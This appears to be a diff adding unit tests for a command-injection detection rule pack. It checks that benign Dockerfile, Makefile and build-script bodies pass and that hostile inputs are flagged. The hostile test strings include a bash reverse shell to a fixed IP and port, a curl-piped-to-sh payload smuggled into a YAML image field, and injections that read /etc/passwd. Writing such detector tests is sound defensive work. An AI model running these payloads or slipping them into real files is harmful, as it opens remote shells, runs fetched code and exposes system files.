@@ -457,6 +457,32 @@ describe('command injection pack', () => {
     expect(score(commandInjectionPack, cookie, 'cookie', 'lbsticky')).toBe(0);
     expect(score(commandInjectionPack, 'w+/etc/passwd', 'cookie', 'lbsticky')).toBeGreaterThan(0);
   });
+
+  it.each([
+    [
+      'a Dockerfile',
+      'FROM python:3.12-slim AS base\nRUN apt-get update \\\n && apt-get install -y curl \\\n && rm -rf /var/lib/apt/lists/*\nCMD ["gunicorn", "app:app"]',
+    ],
+    ['a Makefile', 'VERSION ?= $(shell git describe --tags 2>/dev/null || echo dev)\n\nbuild:\n\tgo build -o bin/app ./cmd/app\nclean:\n\trm -rf bin/'],
+    [
+      'a build script',
+      '#!/usr/bin/env bash\nset -euo pipefail\nTMP=$(mktemp -d)\ntrap \'rm -rf "$TMP"\' EXIT\ncurl -fsSL "https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz" | tar -xz -C "$TMP"',
+    ],
+  ])('leaves %s sent whole to a repository or CI server', (_what, file) => {
+    expect(score(commandInjectionPack, file, 'body_json', 'content')).toBe(0);
+  });
+
+  it.each([
+    ['a reverse shell in a script file', '#!/bin/sh\necho starting job\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\necho done'],
+    [
+      'a download piped into a shell inside a YAML field',
+      'name: build-web\nimage: "alpine:3.18$(curl -s http://198.51.100.23/i|sh)"\ncommand: ["make", "build"]',
+    ],
+    ['a file whose first line breaks out of a command', 'x; cat /etc/passwd\nfoo bar\nbaz qux'],
+    ['a command after a line break, in two lines', 'report.pdf\ncat /etc/passwd'],
+  ])('still reads %s', (_what, value) => {
+    expect(score(commandInjectionPack, value, 'body_json', 'content')).toBeGreaterThan(0);
+  });
 });
 
 describe('shell form', () => {
